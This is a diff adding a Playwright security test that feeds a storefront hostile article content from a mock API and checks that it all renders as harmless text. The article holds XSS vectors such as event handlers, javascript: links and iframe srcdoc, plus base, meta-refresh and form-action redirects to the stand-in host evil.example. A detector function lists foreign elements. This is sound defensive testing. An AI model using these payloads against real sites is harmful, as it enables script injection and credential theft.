@@ -1,0 +1,191 @@
+import { test as base, expect, type Page } from '@playwright/test';
+import { paths } from '../apps/storefront/src/shared/paths.ts';
+import { mockToken } from '../packages/api-client/src/mocks/handlers.ts';
+import { type Server, startStorefront } from '../tools/run/shop.ts';
+import { openedSlug, startHostileApi } from './hostile-api.ts';
+import { payloads } from './payloads.ts';
+import { policyReports } from './policy-reports.ts';
+
+// Whatever a backend answers is text, or an article without anything that runs.
+
+/** Each payload as an article's editor might let it through, and what parsers disagree on. */
+const article = `<h1>Opened</h1>
+<p style="color: red" onclick="hit()">Styled</p><a href="javascript:hit()">Link</a>
+<svg style="color: red" onload="hit()"><style>*{display:none}</style></svg>
+<math><mi style="color: red" href="javascript:hit()">x</mi></math>
+<template><p style="color: red">x</p></template><noscript><p style="color: red">x</p></noscript>
+<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">
+<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
+<iframe src="//evil.example/" srcdoc="<script>parent.hit()</script>"></iframe>
+<form action="//evil.example/" id="root"><input name="otp" autofocus onfocus="hit()"></form>
+<p id="shop-config">{"apiBaseUrl":"//evil.example"}</p><p id="served-page">{}</p>
+<img src="//evil.example/a.png"><video src="//evil.example/a.mp4" poster="//evil.example/a.png"></video>
+<!-- <a title=" --><p style="color: red">"</p>
+${payloads.map((payload) => `<p>${payload}</p>`).join('\n')}
+</textarea></xmp></noscript></style></script></title></math></svg></template>-->
+<p style="color: red" onclick="hit()">The end</p>`;
+
+const test = base.extend<object, { storefront: Server }>({
+  storefront: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the destructuring
+    async ({}, use) => {
+      const api = await startHostileApi(article);
+      const storefront = await startStorefront(api.url);
+      await use(storefront);
+      await storefront.stop();
+      await api.stop();
+    },
+    { scope: 'worker', timeout: 90_000 },
+  ],
+});
+
+/**
+ * Elements and attributes that no page of the shop has by itself.
+ *
+ * @param html in place of the page that is open
+ */
+function foreignParts(html?: string): string[] {
+  const root = html === undefined ? document : new DOMParser().parseFromString(html, 'text/html');
+  const leadsAstray = (address: unknown) =>
+    /^(?:javascript|vbscript|data|blob):/.test(`${address}`);
+  const isForeign = (element: Element) => {
+    const { localName, attributes, textContent } = element;
+    const { href, action, src } = element as Partial<HTMLAnchorElement & HTMLFormElement>;
+    const isData = /json$/.test(element.getAttribute('type') ?? '');
+    return (
+      /^(?:object|embed|base|marquee|math|x-unknown)$/.test(localName) ||
+      (localName === 'iframe' && !/google/.test(`${src}`)) ||
+      (localName === 'script' && !isData && /hit\(/.test(textContent ?? '')) ||
+      (localName === 'meta' && element.hasAttribute('http-equiv')) ||
+      leadsAstray(href) ||
+      leadsAstray(action) ||
+      [...attributes].some(({ name }) => /^(?:on|data-foreign|srcdoc)/.test(name))
+    );
+  };
+  return [...root.querySelectorAll('*')]
+    .filter(isForeign)
+    .map(({ outerHTML }) => outerHTML.slice(0, 200));
+}
+
+/** What an address of a picture is forbidden to load is what the policy is for. */
+const notOfPictures = (reports: string[]) => reports.filter((one) => !/^img-src /.test(one));
+
+async function watched(page: Page) {
+  const wrongs: string[] = [];
+  const hit = (number: number) => wrongs.push(`ran: ${payloads[number]}`);
+  await page.exposeFunction('hit', hit);
+  page.on('pageerror', ({ message }) => wrongs.push(message));
+  page.on('dialog', (dialog) => wrongs.push(dialog.message()));
+  page.on('framenavigated', (frame) => {
+    if (/evil|^data:/.test(frame.url())) wrongs.push(frame.url());
+  });
+  return { wrongs, reports: await policyReports(page) };
+}
+
+/** Opens a page by itself and waits until it shows all payloads, or at least its title. */
+async function expectTexts(page: Page, url: string, showsAll: boolean) {
+  await page.goto(url);
+  await page.locator('h1:not([data-passing])').first().waitFor();
+  const missing = () =>
+    page.evaluate((all) => {
+      const shown = document.body.textContent ?? '';
+      return all.filter((one) => !shown.includes(one));
+    }, payloads);
+  if (showsAll) await expect.poll(missing, url).toEqual([]);
+  expect(await page.evaluate(foreignParts, undefined), url).toEqual([]);
+}
+
+test(`${payloads.length} payloads in every text of every answer are texts on every page`, async ({
+  page,
+  storefront: { url },
+}) => {
+  const { wrongs, reports } = await watched(page);
+  await expectTexts(page, url + paths.home, false);
+  for (const path of [paths.products, `/products/${openedSlug}`, paths.gallery, paths.blogs]) {
+    await expectTexts(page, url + path, true);
+  }
+  // A refusal's own words.
+  await page.goto(url + paths.signup);
+  await page.getByRole('textbox', { name: 'Email' }).first().fill('asha@example.com');
+  await page.getByLabel('Password', { exact: true }).first().fill('a long pass phrase');
+  await page.getByRole('button', { name: 'Login' }).first().click();
+  await expect(
+    page
+      .getByText(payloads[0] ?? '')
+      .filter({ visible: true })
+      .first(),
+  ).toBeVisible();
+  expect(await page.evaluate(foreignParts, undefined)).toEqual([]);
+  await page.evaluate((token) => localStorage.setItem('token', token), mockToken);
+  await expectTexts(page, url + paths.account, false);
+  for (const path of [
+    paths.manageAccount,
+    paths.manageAddress,
+    paths.orders,
+    paths.wishlist,
+    paths.myReviews,
+  ]) {
+    await expectTexts(page, url + path, true);
+  }
+  await page.goto(url + paths.orders);
+  await page
+    .getByRole('link', { name: /^View Details/ })
+    .first()
+    .click();
+  await page.waitForURL(/order-detail/);
+  await expectTexts(page, page.url(), true);
+  expect(wrongs).toEqual([]);
+  expect(notOfPictures(reports)).toEqual([]);
+});
+
+test('an article with hostile content is clean as the server sends it and as the browser reads it', async ({
+  page,
+  storefront: { url },
+}) => {
+  const { wrongs, reports } = await watched(page);
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await page.goto(`${url}/blogs/${openedSlug}`);
+  const end = page.getByText('The end');
+  await expect(end).toBeVisible();
+  expect(await page.evaluate(foreignParts, undefined)).toEqual([]);
+
+  // Read by the browser alone.
+  await page.goto(`${url}${paths.blogs}`);
+  await page.locator(`a[href="/blogs/${openedSlug}"]`).first().click();
+  await expect(end).toBeVisible();
+  expect(await page.evaluate(foreignParts, undefined)).toEqual([]);
+  expect(wrongs).toEqual([]);
+  expect(notOfPictures(reports)).toEqual([]);
+  expect(requests.filter((one) => one.includes('evil.example'))).toEqual([]);
+});
+
+test('text by itself reaches no script, and the refusal is heard', async ({
+  page,
+  storefront: { url },
+}) => {
+  const reports = await policyReports(page);
+  await page.goto(url + paths.about);
+  const outcomes = await page.evaluate(() => {
+    const attempts = [
+      () => document.createElement('div').insertAdjacentHTML('beforeend', '<p>'),
+      () => new DOMParser().parseFromString('<p>', 'text/html'),
+      () => Object.assign(document.createElement('script'), { src: '/a.js' }),
+      () => Object.assign(document.createElement('script'), { text: 'hit()' }),
+      () => navigator.serviceWorker.register('/a.js'),
+      () => Reflect.get(window, 'trustedTypes').createPolicy('another', {}),
+    ];
+    return Promise.all(
+      attempts.map(async (attempt) => {
+        try {
+          await attempt();
+          return 'done';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      }),
+    );
+  });
+  expect(outcomes).toEqual(Array(6).fill('TypeError'));
+  await expect.poll(() => reports.length).toBeGreaterThanOrEqual(6);
+});
